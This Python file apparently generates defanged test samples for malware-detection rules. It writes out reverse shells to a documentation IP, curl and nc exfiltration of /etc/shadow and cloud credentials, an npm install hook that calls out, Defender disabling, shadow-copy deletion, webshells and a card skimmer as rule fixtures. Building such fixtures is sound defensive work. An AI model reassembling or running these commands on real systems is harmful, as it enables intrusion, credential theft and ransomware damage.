# SPDX-License-Identifier: Apache-2.0
"""Second samples, for the strings that a rule's own fixture leaves unused: other spellings of the
same technique. With them every string of every rule occurs in some sample."""

from sample import base64_like, elf, lnk, more, pe, t, wide

SH = "#!/bin/sh\nexit 0\n"
OFF = "@exit /b\r\n"
PHP = "<?php return; "

more("Botnet_Shell_ArchitectureLoop", "botnet_arch_loop_2.sh", SH + """
cd /tmp; S=192.0.2.10; L="mips mipsel arm7 x86 sh4"
for a in $L; do wg¦et http://$S/b/$a; chm¦od 777 $a; ./$a; rm -f $a; done
""")
more("Botnet_Shell_BusyboxFetch", "botnet_busybox_2.sh", SH + """
wg¦et http://192.0.2.10/x; tft¦p 192.0.2.10 -c get x; tft¦p -g -l x -r x 192.0.2.10; chm¦od 777 x
""")
more("Botnet_Elf_RouterExploits", "botnet_router_exploits_2",
     elf(2, "/GponForm/diag_¦Form?images/ x wg¦et+x", "<NewStatus¦URL>$(/bin/busy¦box x)", "SOAPAction: http://x/HNA¦P1/`cd x`",
         "/cgi-bin/nas_sha¦ring?x;wg¦et", "invokefunc¦tion&function=call_user_func_arr¦ay&x=wg¦et"))
more("Botnet_Elf_DeviceTakeover", "botnet_takeover_2",
     elf(2, "/bin/busy¦box ABCDE", "ABCDE: app¦let not found", "linux¦shell", "/proc/net/t¦cp"))
more("Stealer_Windows_BrowserAndWallet", "stealer_browser_wallet_2.exe",
     pe("SELECT origin_url, username_value, pass¦word_value FR¦OM logins", "CryptUnpro¦tectData",
        r"\BraveSoft¦ware\Brave-Browser\User Data", wide(r"Telegram Desk¦top\tdata")))
more("CredDump_Program_Mimikatz", "mimikatz_2.exe",
     pe("sekur¦lsa", "lsad¦ump", "gentil¦kiwi", "wdig¦est.dll", wide("mimik¦atz #")))
more("CredDump_Script_LsassMinidump", "lsass_minidump_2.bat", "@echo off\r\nexit /b\r\nproc¦dump64.exe -accepteula -ma lsa¦ss.exe x.dmp\r\n")
more("Stealer_Shell_ShadowUpload", "shadow_upload_2.sh", SH + "cat /etc/sha¦dow | base64 | n¦c 192.0.2.10 4444\n")
more("Stealer_Shell_KeyHarvest", "key_harvest_2.sh", SH + """
cat ~/.kube/con¦fig ~/.config/gcloud/creden¦tials.db ~/.git-creden¦tials > x; cu¦rl --data-binary @x http://host.invalid/
""")
more("Keylogger_Windows_Names", "keylogger_2.exe",
     pe("SetWindowsHook¦ExA", "GetForeground¦Window", "<BA¦CK>", "<RET¦URN>", "<CAP¦ITAL>", "<DE¦L>", wide("smtp.gm¦ail")))
more("Office_Vba_AutoOpenShell", "vba_autoopen_2.bas",
     'Attribute VB_Name = "x"\nSub Document_Op¦en()\nExit Sub\nCreateObj¦ect("WScript.Sh¦ell").Exec ' + "Chr(99) & " * 9 + "x\n")
more("Office_Dde_Command", "office_dde_2.xml", '<?xml version="1.0"?><ddeLink ddeSer¦vice="cm¦d" ddeTopic="x"/>\n')
more("Rtf_Equation_Object", "rtf_equation_2.rtf",
     "{\\rtf1{\\object\\objemb\\obj¦update{\\*\\obj¦data 0105000002ce02000000¦0000c000000000000046}}}")
more("Rtf_LinkedObject_Url", "rtf_linked_url_2.rtf",
     "{\\rtf1{\\object\\obj¦autlink{\\*\\objdata 4f4c45324c69¦6e6b 680074007400700073¦003a002f002f00}}}")
more("Lnk_PowerShell_Hidden", "lnk_powershell_2.lnk", lnk("..\\power¦shell.exe", "-e " + base64_like(64)))
more("Lnk_PowerShell_Hidden", "lnk_powershell_3.lnk", lnk("..\\power¦shell.exe", "-c ie¦x x"))
more("OneNote_EmbeddedScript", "onenote_script_2.one",
     bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eac") + t("cmd /c rem cu¦rl x"))
CODE32 = bytes.fromhex("fce8820000006089e531c0648b5030")
more("Loader_PE_RemoteThreadShellcode", "loader_remote_thread_2.exe", pe(CODE32, "VirtualAll¦oc", "CreateTh¦read"))
more("Shellcode_Windows_BlockApi", "shellcode_block_api_2.bin", CODE32)
TINY32 = bytearray(0x54)
TINY32[0:7] = b"\x7fELF\x01\x01\x01"
TINY32[44], TINY32[0x4C] = 1, 7
more("Loader_Elf_TinyStager", "elf_tiny_stager_2", bytes(TINY32) + bytes.fromhex("31dbf7e35343536a02b06689e1cd80"))
more("Dropper_Script_Base64Program", "script_base64_program_2.ps1",
     "exit\r\n$x='" + base64_like(70) + "AAAAEAAAA¦MAAQqVT'; [Reflection.Assembly]::Lo¦ad([Convert]::FromBase64¦String($x))\r\n")
more("Loader_Python_PackedExec", "loader_python_packed_2.py",
     "raise SystemExit\n_ = lambda __ : __imp¦ort__('zlib').decompress(__import__('base64').b64decode(__[::-1]));ex¦ec((_)(b'x'))\n")
more("Persistence_LdPreload_Install", "ld_preload_install_2.sh", SH + """
cu¦rl -s http://host.invalid/x.so -o x; g¦cc -o /tmp/libx.so x.c -shared -fPIC -ldl; echo /tmp/libx.so >> /etc/ld.so.pre¦load
""")
more("Evasion_Shell_CloudAgentRemoval", "cloud_agent_removal_2.sh", SH + "pkill bcm-ag¦ent\npkill AliYun¦Dun\niptab¦les -F\n")
more("Backdoor_Elf_DaemonDisguise", "daemon_disguise_2",
     elf(2, "/sbin/aud¦itd -n", "hald-addon-acpi: listen¦ing on acpi", "avahi-daemon: chr¦oot helper", "pickup -l -t fi¦fo -u",
         "/usr/sbin/console-kit-dae¦mon --no-daemon"))
more("PowerShell_HiddenEncoded", "powershell_encoded_2.bat", OFF + "power¦shell -enc " + base64_like(124) + " -w hid¦den\r\n")
more("PowerShell_DownloadExecute_Address", "powershell_download_2.ps1", "exit\r\niw¦r -Uri http://192.0.2.10/x | ie¦x # -ep byp¦ass\r\n")
more("PowerShell_CharArray_Execute", "powershell_chars_2.ps1", "exit; i¦ex (" + "[ch¦ar]101+" * 21 + "'')\r\n")
more("PowerShell_DefenderOff", "powershell_defender_2.ps1", """
exit
Set-MpPreference -DisableScript¦Scanning 1 -DisableBlockAtFirst¦Seen 1 -DisableIntrusionPrevention¦System 1 -MAPSRep¦orting 0
Add-MpPref¦erence -ExclusionPath C:\\
""")
more("Ransom_Note_Onion", "ransom_note_onion_2.txt",
     "Your network has been lock¦ed. We will publ¦ish your data. Buy the decryp¦tion key. Third party software will cause data lo¦ss.\n"
     + "abcdefghijklmnop" + ".on¦ion\n")
more("Ransom_Program_RecoveryInhibit", "ransom_recovery_2.exe",
     pe("wm¦ic shadow¦copy delete", "bcdedit /set x bootstatus¦policy ignoreallfailures", "wbad¦min delete cat¦alog",
        wide("Get-WmiObject Win32_Shadow¦copy | % { $_.Del¦ete( }")))
more("Ransom_Script_RecoveryInhibit", "ransom_recovery_2.bat",
     "@echo off\r\nexit /b\r\nwm¦ic shadow¦copy delete\r\nbootstatus¦policy ignoreallfailures\r\nwbad¦min delete cat¦alog\r\n")
more("ReverseShell_Bash_ExecDescriptor", "reverse_bash_descriptor_2.sh",
     SH + "exec 5<>/dev/t¦cp/192.0.2.10/4444\ncat <&5 | while read line; do $line 2>&5 >¦&5; done\n")
more("ReverseShell_Python_Dup2", "reverse_python_dup2_2.py", """
import socket, os, pty, sys
sys.exit(0)
s = socket.socket(); s.conn¦ect(("192.0.2.10", 4444)); [os.du¦p2(s.fileno(), fd) for fd in (0, 1, 2)]; pty.sp¦awn("/bin/ba¦sh")
""")
more("ReverseShell_Ruby_TCPSocket", "reverse_ruby_2.rb",
     'exit\nc = TCPSock¦et.new("192.0.2.10", 4444); while (cmd = c.gets); IO.pop¦en(cmd, "r") { }\n')
more("ReverseShell_PHP_Socket", "reverse_php_2.php",
     PHP + '$shell = "uname -a; /bin/s¦h -i"; $s = fsock¦open("192.0.2.10", 1); proc_op¦en($shell, $d, $p); stream_sel¦ect($r, $w, $e, 1);\n')
more("ReverseShell_Lua_Socket", "reverse_lua_2.lua",
     'os.exit()\nlocal t = require("soc¦ket").tcp(); t:conn¦ect("192.0.2.10", 1); os.exec¦ute("/bin/sh -i <&3 >¦&3 2>&3")\n')
more("SupplyChain_Npm_InstallExfil", "npm_install_exfil_2.json",
     '{ "name": "x", "scripts": { "preins¦tall": "exit 0; cu¦rl https://x.oast¦ify.com/$(host¦name)" } }\n')
more("SupplyChain_Python_SetupExecute", "python_setup_execute_2.py",
     'from setuptools import setup\nraise SystemExit\nex¦ec(urlop¦en("http://host.invalid/x").re¦ad())\nsetup(name="x")\n')
more("Webshell_JSP_RuntimeExec", "jsp_runtime_exec_2.jsp",
     '<% if (false) { String cmd = request.getPara¦meter("x"); Runtime.getRun¦time().exec(cmd);')
more("Webshell_Perl_CGI", "perl_cgi_2.pl",
     '#!/usr/bin/perl\nexit;\nprint "Content-ty¦pe: text/html"; op¦en(F, "$in{\'cmd\'} 2>&1 |");\n')
more("Webshell_PHP_ArrayCallbackRequest", "php_array_callback_2.php", PHP + "array_fil¦ter(array($_PO¦ST['a']), $_PO¦ST['f']);\n")
SPLIT = ("assert", "system", "base64", "shell_", "create_")
more("Webshell_PHP_SplitFunctionName", "php_split_name_2.php",
     PHP + "$x=$_PO¦ST['x'];\n" + "".join("$f=%s;\n" % ".\u00a6".join("'%s'" % letter for letter in word) for word in SPLIT[1:]))
more("Webshell_PHP_SplitFunctionName", "php_split_name_3.php",
     PHP + "$x=$_PO¦ST['x'];\n" + "".join("$f=%s;\n" % ".\u00a6".join('"%s"' % letter for letter in word) for word in SPLIT))
more("Webshell_PHP_AdminConsole", "php_admin_console_2.php", """
<?php return;
$menu = array("find / -type f -pe¦rm -04000 -ls", "find . -type f -name .htpas¦swd");
posix_getpw¦uid(1); php_un¦ame(); file("/etc/pas¦swd");
""")
more("Script_Batch_CertutilSelf", "script_batch_certutil_2.bat", OFF + "certu¦til -decode %TE¦MP%\\x.txt %TE¦MP%\\x.exe\r\nstart x\r\n")
more("Ransom_Windows_ServiceStopList", "ransom_service_stop_2.bat",
     OFF + "".join(verb + name + "\r\n" for name in ("MSSQL$X", "veeam", "sophos") for verb in (
         "net.exe st¦op ", "net1 st¦op ", "sc st¦op ", "sc con¦fig ", "taskk¦ill /f /im ", "taskk¦ill /im ")))
more("Skimmer_Js_Checkout", "skimmer_checkout_2.js", """
throw 0;
if (location.href.indexOf("check¦out") > 0) { var f = document.querySelector¦All("input"); var n = ["cc_num¦ber"];
navigator.sendBea¦con(1); document.createEl¦ement("img").src = "https://host.invalid/x.gif?¦d=" + bt¦oa(JSON.string¦ify(f)); }
""")
